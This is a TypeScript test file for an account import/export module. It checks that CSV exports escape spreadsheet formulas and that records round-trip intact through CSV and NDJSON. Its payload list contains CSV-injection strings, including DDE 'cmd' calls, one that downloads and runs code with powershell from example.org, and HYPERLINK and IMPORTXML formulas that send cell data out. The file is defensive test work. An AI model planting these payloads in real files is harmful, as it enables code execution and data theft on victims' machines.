import type { JsonObject, TransferFormat } from '@latchkey/core'
import * as fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { type Setup, setUp } from '../support/setup.ts'
import {
  everything,
  exported,
  importObjects,
  importText,
  recordsIn,
  rowsIn,
} from '../support/transfer.ts'

// What a spreadsheet takes for a formula (OWASP, "CSV Injection"), and what people have written before it.
const FORMULAS = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\0=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  ' =1+1',
  '   @A1',
  '\u00a0=1+1',
  '\u3000＝1+1',
  '\ufeff=1+1',
  '"=1+1"',
  'x","=1+1',
  'x"\n=1+1',
  "'=1+1",
  "''+1",
  "=cmd|' /C calc'!A0",
  '=cmd|\' /C powershell IEX(wget https://example.org/x)\'!"A1"',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '=HYPERLINK("https://example.org/?x="&A1,"click")',
  '=IMPORTXML(CONCAT("https://example.org/?", A1:A9), "//a")',
  '=DDE("cmd";"/C calc";"!A0")',
  "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe'!''",
  "=rundll32|'URL.dll,OpenURL calc.exe'!A",
  '%0A=1+1',
  ';=1+1',
  ',=1+1',
  '=1+1;=2+2',
  '-',
  '+',
  '=',
  '@',
  "'",
  '',
]

const DANGEROUS = /^[\s\0]*[=+\-@＝＋－＠\t\r\n\0]/

/** The record of everybody, by address, without what an import gives anew. */
async function accounts({ store }: Setup, emails: readonly string[]) {
  return Promise.all(
    emails.map(async (email) => {
      const user = await store.users.findByIdentifier({ kind: 'email', value: email })
      if (user === null) throw new Error(`${email} is gone`)
      const { emailVerifiedAt, phoneVerifiedAt, updatedAt, ...rest } = user
      return { ...rest, verified: [emailVerifiedAt !== null, phoneVerifiedAt !== null] }
    }),
  )
}

describe('S095 a CSV export', () => {
  it('has no cell that a spreadsheet would run, whatever people call themselves', async () => {
    const setup = setUp(everything)
    // What an address may begin with.
    const locals = ['=1+1', '+1', '-1', "'=1", "''-2+3", '=cmd', '-', '+', '=', "'"]
    const rows = FORMULAS.map((text, index) => ({
      email: `${locals[index] ?? `user-${index}`}@example.com`,
      phone: `+120255501${String(index).padStart(2, '0')}`,
      profile: text.includes('\0') ? { shown: text.slice(1) } : { [text]: text, text },
    }))
    expect(await importObjects(setup.auth, rows)).toMatchObject({ refused: 0 })
    const csv = await exported(setup.auth)
    const [header = [], ...records] = recordsIn(csv)
    expect(records).toHaveLength(FORMULAS.length)
    for (const cell of [header, ...records].flat()) expect(cell).not.toMatch(DANGEROUS)
    for (const record of records) expect(record).toHaveLength(header.length)
    const told = rowsIn(csv).map(({ email = '' }) => email)
    expect(told).toContain("'=1+1@example.com")
    expect(told).toContain("''=1@example.com")
    expect(told).toContain("''@example.com")
  })

  it('gives back what was there when it is imported, apostrophes and all', async () => {
    const setup = setUp(everything)
    const locals = ['=1+1', '+1', '-1', "'=1", "''-2+3", "'''=x", "'", "''", "'a", '-', 'plain']
    const emails = locals.map((local) => `${local}@example.com`)
    await importObjects(
      setup.auth,
      emails.map((email) => ({ email })),
    )
    const copy = setUp(everything)
    await importText(copy.auth, await exported(setup.auth))
    expect(await accounts(copy, emails)).toEqual(await accounts(setup, emails))
  })

  it.each(FORMULAS.filter((text) => !text.includes('\0')))(
    'gives back %j from a column of the profile',
    async (text) => {
      // As somebody would write it who knows how we write cells.
      const { withApostrophe } = await import('../../packages/core/src/transfer/formula-safety.ts')
      const cell = withApostrophe(text)
      expect(cell).not.toMatch(DANGEROUS)
      const setup = setUp(everything)
      const csv = `email,profile.text\nada@example.com,"${cell.replaceAll('"', '""')}"\n`
      expect(await importText(setup.auth, csv)).toMatchObject({ created: 1 })
      const [row] = (await exported(setup.auth, { format: 'ndjson' })).split('\n')
      expect(JSON.parse(row ?? '').profile).toEqual(text === '' ? {} : { text })
    },
  )
})

const text = fc.string({ unit: 'grapheme', maxLength: 40 }).filter((one) => !one.includes('\0'))
const awkward = fc.oneof(text, fc.constantFrom(...FORMULAS.filter((one) => !one.includes('\0'))))
const json = fc
  .jsonValue({ maxDepth: 3, noUnicodeString: false })
  .map((value) => JSON.parse(JSON.stringify(value))) // which writes -0 as 0
  .filter(isStorable)
const profiles = fc
  .dictionary(fc.oneof(awkward, fc.constantFrom('a"b', 'x,y', 'é')), fc.oneof(awkward, json), {
    maxKeys: 5,
  })
  .map(withoutNulls)

function withoutNulls(profile: object): JsonObject {
  const members = Object.entries(profile).filter(
    ([name, value]) => value !== null && name !== '__proto__' && name.length <= 64,
  )
  return Object.fromEntries(members)
}

function isStorable(value: unknown): boolean {
  return !/\\u0000|\\ud[89a-f]|__proto__/.test(JSON.stringify(value))
}

const locals = fc
  .tuple(
    fc.constantFrom('', '=', '+', '-', "'", "'=", "''+", 'A', 'x.'),
    fc.stringMatching(/^[a-zA-Z0-9'+=_-]{1,12}$/),
  )
  .map((parts) => parts.join(''))

const account = fc.record(
  {
    email: locals.map((local) => `${local}@Example.com`),
    emailVerified: fc.boolean(),
    username: fc.stringMatching(/^[a-z][A-Za-z0-9._-]{1,10}[a-z]$/),
    phone: fc.integer({ min: 0, max: 99 }).map((n) => `+120255501${String(n).padStart(2, '0')}`),
    phoneVerified: fc.boolean(),
    roles: fc.uniqueArray(fc.constantFrom('user', 'staff', 'admin'), { minLength: 1 }),
    status: fc.constantFrom('active', 'disabled', 'pending'),
    profile: profiles,
    createdAt: fc
      .date({ min: new Date(0), max: new Date('2026-01-01'), noInvalidDate: true })
      .map((date) => date.toISOString()),
  },
  { requiredKeys: ['email'] },
)

const accountLists = fc.uniqueArray(account, {
  minLength: 1,
  maxLength: 8,
  comparator: (a, b) =>
    a.email.toLowerCase() === b.email.toLowerCase() ||
    (a.username !== undefined && a.username.toLowerCase() === b.username?.toLowerCase()) ||
    (a.phone !== undefined && a.phone === b.phone),
})

describe.each<TransferFormat>(['csv', 'ndjson'])('what was exported as %s', (format) => {
  it('is the same after it was imported elsewhere, and again, whatever it is', async () => {
    await fc.assert(
      fc.asyncProperty(accountLists, fc.integer({ min: 1, max: 200 }), async (rows, size) => {
        const [first, second] = [setUp(everything), setUp(everything)]
        const imported = await importObjects(first.auth, rows)
        expect(imported).toMatchObject({ created: rows.length, errors: [] })
        const out = await exported(first.auth, { format })
        if (format === 'csv') {
          const records = recordsIn(out)
          expect(records).toHaveLength(rows.length + 1)
          for (const cell of records.flat()) expect(cell).not.toMatch(DANGEROUS)
        }
        expect(await importText(second.auth, out, { format, size })).toMatchObject({
          created: rows.length,
          errors: [],
        })
        const emails = rows.map(({ email }) => email.toLowerCase())
        expect(await accounts(second, emails)).toEqual(await accounts(first, emails))
        const again = await importText(first.auth, out, { format, ifExists: 'update' })
        expect(again).toMatchObject({ skipped: rows.length, updated: 0, errors: [] })
      }),
      { numRuns: 60 },
    )
  })
})
